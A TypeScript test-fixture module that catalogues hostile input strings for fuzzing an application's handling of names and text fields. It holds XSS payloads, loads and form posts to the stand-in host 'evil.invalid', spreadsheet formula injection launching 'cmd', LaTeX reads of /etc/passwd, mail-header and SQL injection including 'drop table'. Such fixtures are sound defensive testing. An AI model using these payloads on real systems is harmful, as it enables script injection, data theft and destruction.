/** A host that nobody has: whoever asks it for something was made to by a text. */
export const FOREIGN_HOST = "evil.invalid";

/**
 * Texts that people type and workbooks bring, by what they would have a browser, a mail program, a renderer or a
 * spreadsheet do. Whatever runs calls `xss()`, opens a dialog or asks `FOREIGN_HOST`. Each fits into a name of 100
 * characters.
 */
const BY_KIND = {
  tag: [
    "<script>xss(1)</script>",
    "<ScRiPt >xss(2)</sCrIpT >",
    "<script src=//evil.invalid/3.js></script>",
    "<script/x>xss(4)</script\t>",
    "<<script>xss(5);//<</script>",
    "<scr<script>ipt>xss(6)</scr</script>ipt>",
    "<iframe src=javascript:parent.xss(7)></iframe>",
    "<iframe srcdoc='<script>parent.xss(8)</script>'>",
    "<object data=https://evil.invalid/9.swf></object>",
    "<embed src=javascript:xss(10)>",
    "<link rel=stylesheet href=//evil.invalid/11.css>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid/12'>",
    "<base href=https://evil.invalid/13/>",
    "<form action=//evil.invalid/14><button>Send</button></form>",
    "<noscript><p title='</noscript><img src=x onerror=xss(15)>'>",
  ],
  handler: [
    "<img src=x onerror=xss(16)>",
    "<img src=x onerror=alert(17)>",
    "<IMG SRC=//evil.invalid/18.png>",
    "<body onload=xss(19)>",
    "<input autofocus onfocus=xss(20)>",
    "<details open ontoggle=xss(21)><summary>x</summary></details>",
    "<video><source onerror=xss(22)></video>",
    "<audio src=x onerror=xss(23)></audio>",
    "<marquee onstart=xss(24)>x</marquee>",
    "<p onmouseover=xss(25) onpointerenter=xss(25)>hover</p>",
    "<div style=animation-name:x onanimationstart=xss(26)>x</div>",
    "<select autofocus onfocus=xss(27)><option>x</select>",
  ],
  svg: [
    "<svg onload=xss(28)>",
    "<svg/onload=xss(0)>",
    "<svg><script>xss(29)</script></svg>",
    "<svg><a xlink:href=javascript:xss(30)><text>x</text></a></svg>",
    "<svg><animate onbegin=xss(31) attributeName=x dur=1s>",
    "<svg><image href=//evil.invalid/32.png /></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.xss(33)</script>'>",
    "<svg><style><img src=x onerror=xss(34)></style></svg>",
  ],
  mathml: [
    "<math><mi//xlink:href='data:x,<script>xss(35)</script>'>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=xss(36)>",
    "<math href=javascript:xss(37)>CLICK</math>",
  ],
  address: [
    "javascript:xss(38)",
    " JaVaScRiPt:xss(39)//https://evil.invalid",
    "data:text/html,<script>parent.xss(40)</script>",
    "vbscript:xss(41)",
    "//evil.invalid/42",
    "https://evil.invalid/43?q=<script>xss(43)</script>",
  ],
  break: [
    "</script><script>xss(44)</script>",
    "</title><script>xss(45)</script>",
    "</textarea><script>xss(46)</script>",
    "</style><script>xss(47)</script>",
    "--><script>xss(48)</script><!--",
    "]]><script>xss(49)</script>",
    '"><img src=x onerror=xss(50)>',
    "'><svg/onload=xss(51)>",
    '" onmouseover="xss(52)" x="',
    "' autofocus onfocus='xss(53)",
    "` onerror=`xss(54)",
    "';xss(55);//",
    "\\';xss(56);//",
    '"});xss(57);({"',
    "</xmp></noembed><img src=x onerror=xss(58)>",
  ],
  entity: [
    "&lt;script&gt;xss(59)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=xss(60)&amp;gt;",
    "&#60;img src=x onerror=xss(61)&#62;",
    "&#x26;#60;script&#x26;#62;xss(62)",
    "%3Cscript%3Exss(63)%3C/script%3E",
    "\\u003cscript\\u003exss(64)\\u003c/script\\u003e",
    "_x003C_script_x003E_xss(65)",
    "\uff1cscript\uff1exss(66)\uff1c/script\uff1e",
  ],
  template: [
    "{{constructor.constructor('xss(67)')()}}",
    "$" + "{xss(68)}",
    "<%= xss(69) %>",
    "#{xss(70)}",
    "{{#with 'x' as |s|}}{{s.sub.constructor}}{{/with}}",
    "{% raw %}{{7*7}}{% endraw %}",
    "[[$" + "{7*7}]]",
    "%s%n%x%p %(name)s {0} $1 $& $`",
  ],
  markdown: [
    "[click](javascript:xss(75))",
    "![x](https://evil.invalid/76.png)",
    "<javascript:xss(77)>",
    "```html\\n<img src=x onerror=xss(78)>```",
  ],
  css: [
    "x;background:url(//evil.invalid/79.png)",
    "</style><style>@import'//evil.invalid/80.css';",
    "expression(xss(81))",
    "red}*{background:url(https://evil.invalid/82)}",
  ],
  chart: [
    "{a|xss}{b} {c} {@[0]} {value|83}",
    "{year|2026}\\n{b0}: {c0} ({d0}%)",
    "function(){xss(85)}",
    '{"formatter":"<img src=x onerror=xss(86)>"}',
  ],
  script: [
    '{"@context":"https://evil.invalid","@type":"Thing"}',
    '__proto__[x]=1&constructor={"prototype":{"x":1}}',
    "\u2028xss(89)\u2029",
    '#eval(xss) #image("https://evil.invalid/90.png") @x <label> $x^2$ *b* _i_',
    "\\input{/etc/passwd} \\write18{id}",
    "(S) /JavaScript (app.alert(92)) /URI (https://evil.invalid)",
  ],
  unicode: [
    "\u202egnp.exe \u202d\u2066x\u2069 \u200f",
    "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a zalgo",
    "\ufeff\u200b\u200d\u2060 <img src=x onerror=xss(95)>",
    "\u{e0001}\u{e003c}tag\u{e007f} \u{1f468}\u200d\u{1f469}\u200d\u{1f467}",
    "\uff07 OR 1=1 \u02bc \u2032 \uff02",
  ],
  formula: [
    '=HYPERLINK("https://evil.invalid/98","pay")',
    "=cmd|'/C calc'!A0",
    "+1+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    '=IMPORTXML("https://evil.invalid/103","//a")',
    '=WEBSERVICE("https://evil.invalid/104")',
    '=DDE("cmd";"/C calc";"x")',
    "\uff1d1+1",
  ],
  mail: [
    "Bcc: everybody@evil.invalid",
    "a@evil.invalid, b@evil.invalid; c@evil.invalid",
    '"x" <a@evil.invalid>',
    "=?utf-8?q?=0D=0ABcc:_a@evil.invalid?=",
    "%0d%0aBcc:a@evil.invalid",
  ],
  sql: ["'; drop table response; --", "1' or '1'='1", "\\'; select pg_sleep(9) --"],
} as const satisfies Readonly<Record<string, readonly string[]>>;

export interface HostileText {
  readonly kind: string;
  readonly text: string;
}

/** See `BY_KIND`. */
export const HOSTILE_TEXTS: readonly HostileText[] = Object.entries(BY_KIND).flatMap(([kind, texts]) =>
  texts.map((text) => ({ kind, text })),
);

/** What a text of several lines may do besides: fields where one line is allowed refuse or drop the ends. */
export const LINE_BREAKS = [
  "x\r\nBcc: everybody@evil.invalid",
  "x\nContent-Type: text/html\n\n<script>xss(120)</script>",
  "\t=1+1",
  "\r=1+1",
] as const;

/** Gives the texts one after the other, from the beginning again when all were given; without control characters. */
export function hostileTexts(longest = 200): () => string {
  const fitting = HOSTILE_TEXTS.map(({ text }) => text.replaceAll(/\p{Cc}/gu, "").trim()).filter(
    (text) => text.length <= longest,
  );
  let given = 0;
  return () => {
    const text = fitting[given % fitting.length] ?? "";
    given += 1;
    return text;
  };
}
